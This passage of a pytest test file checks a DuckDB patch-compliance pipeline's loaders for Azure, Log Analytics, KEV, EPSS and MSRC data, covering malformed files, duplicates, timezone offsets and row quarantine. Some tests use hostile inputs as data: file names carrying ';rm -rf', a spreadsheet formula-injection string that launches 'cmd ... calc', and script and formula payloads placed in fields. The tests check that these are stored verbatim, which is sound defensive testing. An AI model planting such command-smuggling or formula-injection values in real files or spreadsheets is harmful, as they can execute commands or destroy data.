        "kev", _kev("kev.csv", kev_csv([kev_entry(), kev_entry(dueDate="2024-04-01")])),
        r"kev\.csv: rows 1, 2, field cveID: CVE-2024-21412 is listed more than once"),
    "epss_missing_column": ("epss", _epss(epss_text(["CVE-2024-21412,0.5"], header="cve,epss")),
                            r"epss_scores-2025-09-04\.csv: header: missing column\(s\) percentile"),
    "epss_wrong_type": (
        "epss", _epss(epss_text(["CVE-2024-21412,0.5,0.9", "CVE-2024-1000,high,0.9"])),
        r"epss_scores-2025-09-04\.csv: row 2, field epss: 'high': not a number between 0 and 1"),
    "epss_out_of_range": ("epss", _epss(epss_text(["CVE-2024-21412,0.5,1.7"])),
                          r"row 1, field percentile: '1\.7': not a number between 0 and 1"),
    "epss_empty_file": ("epss", _epss(b""), r"epss_scores-2025-09-04\.csv: empty file"),
    "epss_non_utf8": (
        "epss", _epss(epss_text(["CVE-2024-21412,0.5,0.9"]).encode() + b"CVE-2024-\xa01,0.1,0.1\n"),
        r"epss_scores-2025-09-04\.csv: not UTF-8: byte 0xa0 at byte offset \d+ \(line 4\)"),
    "epss_conflicting_duplicate": (
        "epss", _epss(epss_text(["CVE-2024-21412,0.5,0.9", "cve-2024-21412,0.6,0.9"])),
        r"rows 1, 2, field cve: CVE-2024-21412 is scored more than once"),
    "msrc_json_truncated": ("msrc", _msrc(dump(msrc_doc())[:-50]),
                            r"bulletins/msrc/2024-Jan\.json: .*line 1 column"),
    "msrc_xml_truncated": ("msrc", _msrc(msrc_xml()[:-40], "2024-Jan.xml"),
                           r"bulletins/msrc/2024-Jan\.xml: .*line 1, column"),
    "msrc_empty_file": ("msrc", _msrc(b""),
                        r"bulletins/msrc/2024-Jan\.json: neither a CVRF XML nor a CVRF JSON document"),
    "msrc_xml_non_utf8": ("msrc", _msrc(msrc_xml().encode().replace(b"Bypass", b"By\xffpass"), "2024-Jan.xml"),
                          r"bulletins/msrc/2024-Jan\.xml: not well-formed \(invalid token\): line 1, column \d+"),
    "msrc_wrong_month_title": (
        "msrc", _msrc(dump(msrc_doc(title="February 2024 Security Updates"))),
        r"2024-Jan\.json: document '2024-Jan' is titled 'February 2024 Security Updates'"),
    "msrc_xml_wrong_namespace": (
        "msrc", _msrc(msrc_xml("urn:not-cvrf", "urn:not-vuln"), "2024-Jan.xml"),
        r"bulletins/msrc/2024-Jan\.xml: root element 'cvrfdoc' in namespace 'urn:not-cvrf' is not a CVRF 1\.1"),
    "msrc_unknown_threat_enum": (
        "msrc", _msrc(dump(msrc_doc(threat_type=9))),
        r"bulletins/msrc/2024-Jan\.json: document '2024-Jan', Vulnerability CVE-2024-21412, "
        r"Threats\[0\]\.Type: unknown value 9"),
    "msrc_wrong_type_cvss": (
        "msrc", _msrc(dump(msrc_doc(base_score="high"))),
        r"bulletins/msrc/2024-Jan\.json: document '2024-Jan', Vulnerability CVE-2024-21412, "
        r"CVSSScoreSets\[0\]\.BaseScore: 'high' is not a number"),
    "msrc_duplicate_vulnerability": (
        "msrc", _msrc(dump(msrc_doc(vulns=[msrc_doc()["Vulnerability"][0]] * 2))),
        r"bulletins/msrc/2024-Jan\.json: document '2024-Jan', Vulnerability CVE-2024-21412: listed more than once"),
}


@pytest.mark.parametrize("case", sorted(ASSET_ERROR_CASES))
def test_asset_error_keeps_last_good_state(tmp_path, case):
    source, build_bad, message = ASSET_ERROR_CASES[case]
    assets, table, build_good = ASSET_SOURCES[source]
    good, bad, database = tmp_path / "good", tmp_path / "bad", tmp_path / "w.duckdb"
    build_good(good)
    build_bad(bad)
    assert materialize(assets, database, good).success
    with duckdb.connect(str(database)) as conn:
        before = table_hash(conn, table)
    assert before[0] > 0
    result = materialize(assets, database, bad)
    assert not result.success
    assert re.search(message, failure_text(result)), failure_text(result)
    with duckdb.connect(str(database)) as conn:
        assert table_hash(conn, table) == before


# ---------------------------------------------------------------- (b) legal but odd data loads


def _direct(source: str, build: Callable[[Path], object], tmp_path: Path) -> duckdb.DuckDBPyConnection:
    table, load, _ = DIRECT_SOURCES[source]
    build(tmp_path)
    conn = connect_warehouse(":memory:")
    with transaction(conn):
        load(conn, tmp_path)
    return conn


def _rows(conn, sql, params=None) -> list[tuple]:
    return conn.execute(sql, params).fetchall()


def loaded_vm_script_payload_in_tag(tmp_path):
    conn = _direct("vm", _vm(dump([vm_resource(tags={"owner": SCRIPT, "role": FORMULA})])), tmp_path)
    assert _rows(conn, "SELECT resource->'tags'->>'owner', resource->'tags'->>'role' FROM raw.virtual_machines") == [
        (SCRIPT, FORMULA)]


def loaded_vm_identical_duplicate(tmp_path):
    conn = _direct("vm", _vm(dump([vm_resource(), vm_resource()])), tmp_path)
    # As received; the identity SQL keeps one machine (see the pipeline case below).
    assert _rows(conn, "SELECT count(*), count(DISTINCT lower(id)) FROM raw.virtual_machines") == [(2, 1)]


def loaded_arg_odd_file_name_and_huge_field(tmp_path):
    write(tmp_path, f"azure/resource_graph/patchassessmentresources {ODD}.json",
          dump(arg_assessment(patch_name=FIVE_MB)))
    conn = _direct("arg_assess", lambda e: None, tmp_path)
    assert _rows(conn, "SELECT DISTINCT source_file FROM raw.patch_assessment_resources") == [
        (f"azure/resource_graph/patchassessmentresources {ODD}.json",)]
    assert _rows(conn, "SELECT length(properties->>'patchName') FROM raw.patch_assessment_resources "
                       "WHERE properties->>'patchName' IS NOT NULL") == [(len(FIVE_MB),)]


def loaded_op_odd_file_name(tmp_path):
    conn = _direct("ops", lambda e: write(e, f"azure/patch_operations/{ODD}.json", dump(operation())), tmp_path)
    assert _rows(conn, "SELECT source_file, operation FROM raw.patch_operations") == [
        (f"azure/patch_operations/{ODD}.json", "installPatches")]


def loaded_la_update_csv_extra_column(tmp_path):
    header = [*LA_HEADER, "_BilledSize", "NotALogAnalyticsColumn"]
    conn = _direct("la_update", _la_file("Update.csv", la_csv([r + ["12", "x"] for r in la_rows(2)], header)), tmp_path)
    assert _rows(conn, "SELECT count(*) FROM raw.la_update") == [(2,)]
    assert "NotALogAnalyticsColumn" not in [r[0] for r in _rows(conn, "DESCRIBE raw.la_update")]


def loaded_la_update_odd_file_name(tmp_path):
    conn = _direct("la_update", _la_file("Update;rm -rf.csv", la_csv(la_rows(2))), tmp_path)
    assert _rows(conn, "SELECT DISTINCT source_file FROM raw.la_update") == [("log_analytics/Update;rm -rf.csv",)]


def loaded_la_update_csv_huge_title(tmp_path):
    rows = la_rows(2)
    rows[1][3] = FIVE_MB
    conn = _direct("la_update", _la_file("Update.csv", la_csv(rows)), tmp_path)
    assert _rows(conn, "SELECT max(length(Title)) FROM raw.la_update") == [(len(FIVE_MB),)]


def loaded_la_update_payload_text_verbatim(tmp_path):
    rows = la_rows(2)
    rows[0][3], rows[1][3] = FORMULA, SCRIPT
    conn = _direct("la_update", _la_file("Update.csv", la_csv(rows)), tmp_path)
    assert sorted(r[0] for r in _rows(conn, "SELECT Title FROM raw.la_update")) == sorted([FORMULA, SCRIPT])


def loaded_la_update_json_mixed_offsets(tmp_path):
    rows = la_rows(3)
    rows[0][0], rows[1][0], rows[2][0] = "2024-03-08T12:00:00+02:00", "2024-03-08T05:00:00-05:00", "2024-03-08T10:00:00Z"
    conn = _direct("la_update", _la_file("Update.json", la_az_json(rows)), tmp_path)
    assert {r[0] for r in _rows(conn, "SELECT TimeGenerated FROM raw.la_update")} == {
        datetime(2024, 3, 8, 10, 0, tzinfo=UTC)}


def loaded_la_run_api_body_header_only(tmp_path):
    conn = _direct("la_run", _la_file("UpdateRunProgress.json", la_api_body([], RUN_COLUMNS)), tmp_path)
    assert _rows(conn, "SELECT count(*) FROM raw.la_update_run_progress") == [(0,)]


def loaded_la_summary_csv_out_of_order(tmp_path):
    out = la_csv([["3/9/2024, 5:00:00.000 AM", "h", "1", "false"], ["3/2/2024, 5:00:00.000 AM", "h", "2", "true"]],
                 ["TimeGenerated [UTC]", "Computer", "TotalUpdatesMissing", "RestartPending"])
    conn = _direct("la_summary", _la_file("UpdateSummary.csv", out), tmp_path)
    assert _rows(conn, "SELECT TimeGenerated, TotalUpdatesMissing FROM raw.la_update_summary ORDER BY TimeGenerated") == [
        (datetime(2024, 3, 2, 5, tzinfo=UTC), 2), (datetime(2024, 3, 9, 5, tzinfo=UTC), 1)]


def loaded_reg_rollbacks_mixed_offsets(tmp_path):
    conn = _direct("reg_rollbacks", register("rollbacks", {"rollback_id": "r2", "rolled_back_at": "2026-10-01T10:00:00+02:00"},
                                             {"rollback_id": "r3", "rolled_back_at": "2026-09-30T23:30:00-05:00"}), tmp_path)
    assert dict(_rows(conn, "SELECT rollback_id, rolled_back_at FROM staging.rollbacks")) == {
        "r1": datetime(2026, 10, 1, 0, 0, tzinfo=UTC), "r2": datetime(2026, 10, 1, 8, 0, tzinfo=UTC),
        "r3": datetime(2026, 10, 1, 4, 30, tzinfo=UTC)}


def loaded_reg_authorization_events_formula(tmp_path):
    conn = _direct("reg_authorization_events", register("authorization_events", {
        "event_id": "e2", "from_state": "proposed", "to_state": "in_test", "actor_role": "tester",
        "justification": FORMULA, "change_ticket": "@SUM(1+1)*cmd|' /C calc'!A0"}), tmp_path)
    assert _rows(conn, "SELECT justification, change_ticket FROM staging.authorization_events WHERE event_id = 'e2'") == [
        (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0")]


def loaded_reg_exceptions_script(tmp_path):
    conn = _direct("reg_exceptions", register("exceptions", {"exception_id": "x2", "reason": SCRIPT}), tmp_path)
    assert _rows(conn, "SELECT reason FROM staging.exceptions WHERE exception_id = 'x2'") == [(SCRIPT,)]


def loaded_reg_patch_tests_huge_field(tmp_path):
    conn = _direct("reg_patch_tests", register("patch_tests", {"test_id": "t2", "failure_reason": FIVE_MB}), tmp_path)
    assert _rows(conn, "SELECT length(failure_reason) FROM staging.patch_tests WHERE test_id = 't2'") == [(len(FIVE_MB),)]


def _kev_read(tmp_path, name, text):
    path = write(tmp_path, name, text)
    conn = duckdb.connect()
    conn.execute("SET TimeZone = 'UTC'")
    return read_kev(conn, path).to_pylist()


def loaded_kev_csv_extra_column_and_duplicate(tmp_path):
    rows = _kev_read(tmp_path, "kev.csv", kev_csv([kev_entry(), kev_entry()], extra_column=True))
    assert [(r["cve"], r["due_date"]) for r in rows] == [("CVE-2024-21412", date(2024, 3, 5))]


def loaded_kev_payload_text_and_odd_name(tmp_path):
    entry = kev_entry(shortDescription=SCRIPT, notes=FORMULA)
    for name, text in ((f"kev {ODD}.csv", kev_csv([entry])), (f"kev {ODD}.json", kev_json([entry]))):
        (row,) = _kev_read(tmp_path, name, text)
        assert (row["short_description"], row["notes"]) == (SCRIPT, FORMULA)


def _epss_read(tmp_path, name, text):
    path = write(tmp_path, name, text)
    conn = duckdb.connect()
    conn.execute("SET TimeZone = 'UTC'")
    return read_epss(conn, path).to_pylist()


def loaded_epss_identical_duplicate_and_extra_column(tmp_path):
    rows = _epss_read(tmp_path, "epss_scores-2025-09-03.csv", epss_text(
        ["CVE-2024-21412,0.5,0.9,x", "CVE-2024-21412,0.5,0.9,x"], header="cve,epss,percentile,comment"))
    assert [(r["cve"], r["epss"]) for r in rows] == [("CVE-2024-21412", 0.5)]


def loaded_epss_mixed_offset_score_date(tmp_path):
    comment = "#model_version:v2025.03.14,score_date:2025-09-03T23:30:00-05:00\n"
    rows = _epss_read(tmp_path, f"epss_scores {ODD}.csv", epss_text(["CVE-2024-21412,0.5,0.9"], comment=comment))
    assert rows[0]["score_date"] == date(2025, 9, 4)  # 2025-09-04T04:30Z


def loaded_msrc_odd_name_payload_and_offset(tmp_path):
    doc = msrc_doc(current="2024-06-28T01:39:56-05:00", vuln_title=SCRIPT + FORMULA)
    parsed = parse_file(write(tmp_path, f"2024 Jan {ODD}.json", dump(doc)))
    assert parsed.current_release_at == datetime(2024, 6, 28, 6, 39, 56, tzinfo=UTC)
    assert parsed.rows["vulnerabilities"][0]["title"] == SCRIPT + FORMULA


LOADED_CASES = {name.removeprefix("loaded_"): fn for name, fn in dict(globals()).items()
                if name.startswith("loaded_") and callable(fn)}


@pytest.mark.parametrize("case", sorted(LOADED_CASES))
def test_loaded(tmp_path, case):
    LOADED_CASES[case](tmp_path)


# ---------------------------------------------------------------- (b) through the pipeline:
# duplicates across exports, a late out-of-order file, mixed offsets, a duplicated VM

FIXTURE = Path(__file__).parent / "fixtures_azure" / "estate"
SUB = "/subscriptions/11111111-1111-1111-1111-111111111111"
WIN = f"{SUB}/resourcegroups/rg-prod/providers/microsoft.compute/virtualmachines/vm-win01"
LNX = f"{SUB}/resourcegroups/rg-prod/providers/microsoft.compute/virtualmachines/vm-lnx01"


@pytest.fixture(scope="module")
def pipeline(tmp_path_factory):
    from test_patch_state import materialize as materialize_stage

    root = tmp_path_factory.mktemp("odd_estate")
    estate = root / "estate"
    shutil.copytree(FIXTURE, estate)
    vms = json.loads((estate / "azure" / "virtual_machines.json").read_text())
    (estate / "azure" / "virtual_machines.json").write_text(dump([*vms, vms[0]]))  # listed twice
    # The same Log Analytics export again under an odd name: identical records.
    shutil.copy(estate / "log_analytics" / "Update-vm.json", estate / "log_analytics" / "Update;rm -rf copy.json")
    # A late file that sorts first, written in +05:00: KB2267602 installed at 2024-03-09T20:00Z,
    # after the failed install of 04:00Z that the other files report.
    late = [{"id": f"{WIN}/patchInstallationResults/late", "name": "late",
             "type": "microsoft.compute/virtualmachines/patchinstallationresults",
             "properties": {"installationActivityId": "late", "status": "Succeeded", "rebootStatus": "NotNeeded",
                            "startDateTime": "2024-03-10T00:30:00+05:00", "lastModifiedDateTime": "2024-03-10T01:00:00+05:00"}},
            {"id": f"{WIN}/patchInstallationResults/late/softwarePatches/2267602", "name": "2267602",
             "type": "microsoft.compute/virtualmachines/patchinstallationresults/softwarepatches",
             "properties": {"patchName": "KB2267602", "kbId": "2267602", "classifications": ["Definition"],
                            "installationState": "Installed", "rebootRequired": False}}]
    write(estate, "azure/resource_graph/patchinstallationresources-0000-late.json", dump(late))
    database = materialize_stage(root, "2024-03-10")
    conn = duckdb.connect(str(database), read_only=True)
    yield conn
    conn.close()


def test_pipeline_duplicate_exports_counted_once(pipeline):
    raw = _rows(pipeline, "SELECT count(*), count(DISTINCT source_file) FROM raw.la_update")
    observed = _rows(pipeline, "SELECT count(*), count(DISTINCT (vm_id, patch_key, observed_at, state)) "
                               "FROM staging.patch_observations WHERE source = 'log_analytics_update'")
    assert raw[0][1] == 2 and observed[0][0] == observed[0][1] == raw[0][0] // 2


def test_pipeline_late_out_of_order_file_with_offset(pipeline):
    assert _rows(pipeline, "SELECT observed_at FROM staging.patch_observations WHERE run_id = 'late'") == [
        (datetime(2024, 3, 9, 20, 0, tzinfo=UTC),)]
    assert _rows(pipeline, "SELECT state FROM marts.vm_patch_state WHERE vm_id = ? AND patch_key = '2267602'",
                 [WIN]) == [("installed",)]


def test_pipeline_duplicated_vm_is_one_machine(pipeline):
    assert _rows(pipeline, "SELECT count(*) FROM marts.vm_inventory WHERE vm_id = ?", [WIN]) == [(1,)]


# ---------------------------------------------------------------- (c) quarantine (Log Analytics)


def _quarantine(conn) -> list[tuple]:
    return _rows(conn, 'SELECT source, source_file, "row", field, reason, raw_value, ingest_run '
                       'FROM raw.quarantine ORDER BY ALL')


def quarantined_la_update_csv_bad_datetime(tmp_path):
    rows = la_rows(200)
    rows[56][0] = "31/02/2024, 4:32:49 PM"
    conn = _direct("la_update", _la_file("Update.csv", la_csv(rows)), tmp_path)
    assert _quarantine(conn) == [("raw.la_update", "log_analytics/Update.csv", 57, "TimeGenerated",
                                  "is not a valid datetime", "31/02/2024, 4:32:49 PM", "run")]
    assert _rows(conn, "SELECT count(*), count(DISTINCT Computer) FROM raw.la_update") == [(199, 199)]
    assert _rows(conn, "SELECT count(*) FROM raw.la_update WHERE Computer = 'host0056.contoso.com'") == [(0,)]


def quarantined_la_run_api_body_bad_bool(tmp_path):
    rows = run_rows(120)
    rows[9][5] = "maybe"
    conn = _direct("la_run", _la_file("UpdateRunProgress.json", la_api_body(rows, RUN_COLUMNS)), tmp_path)
    assert _quarantine(conn) == [("raw.la_update_run_progress", "log_analytics/UpdateRunProgress.json", 10,
                                  "SucceededOnRetry", "is not a valid bool", "maybe", "run")]
    assert _rows(conn, "SELECT count(*) FROM raw.la_update_run_progress") == [(119,)]


def quarantined_la_summary_csv_missing_computer(tmp_path):
    rows = [["2024-03-02T05:00:00Z", f"h{i}", "1", "false"] for i in range(100)]
    rows[2][1] = ""
    conn = _direct("la_summary", _la_file("UpdateSummary.csv", la_csv(
        rows, ["TimeGenerated", "Computer", "TotalUpdatesMissing", "RestartPending"])), tmp_path)
    assert _quarantine(conn) == [("raw.la_update_summary", "log_analytics/UpdateSummary.csv", 3, "Computer",
                                  "a value is required", None, "run")]
    assert _rows(conn, "SELECT count(*) FROM raw.la_update_summary") == [(99,)]


def quarantined_la_update_json_unknown_state_via_asset(tmp_path):
    rows = la_rows(150)
    rows[9][4] = "Wibble"
    estate = tmp_path / "estate"
    write(estate, "log_analytics/Update.json", la_az_json(rows))
    result = materialize([la_assets.raw_la_update], tmp_path / "w.duckdb", estate, every_day())
    assert result.success
    materialization = result.asset_materializations_for_node("raw__la_update")[0]  # one per day, the same metadata
    assert materialization.metadata["quarantined_rows"].value == 1
    with duckdb.connect(str(tmp_path / "w.duckdb")) as conn:
        (row,) = _quarantine(conn)
        assert row[:6] == ("raw.la_update", "log_analytics/Update.json", 10, "UpdateState",
                           "must be one of Needed/Installed/Not needed", "Wibble")
        assert _rows(conn, "SELECT count(*) FROM raw.la_update") == [(149,)]
        # The next load of that source replaces its quarantine rows.
        write(estate, "log_analytics/Update.json", la_az_json(la_rows(150)))
    assert materialize([la_assets.raw_la_update], tmp_path / "w.duckdb", estate, every_day()).success
    with duckdb.connect(str(tmp_path / "w.duckdb")) as conn:
        assert _quarantine(conn) == []
        assert _rows(conn, "SELECT count(*) FROM raw.la_update") == [(150,)]


QUARANTINE_CASES = {name.removeprefix("quarantined_"): fn for name, fn in dict(globals()).items()
                    if name.startswith("quarantined_") and callable(fn)}


@pytest.mark.parametrize("case", sorted(QUARANTINE_CASES))
def test_quarantined(tmp_path, case):
    QUARANTINE_CASES[case](tmp_path)
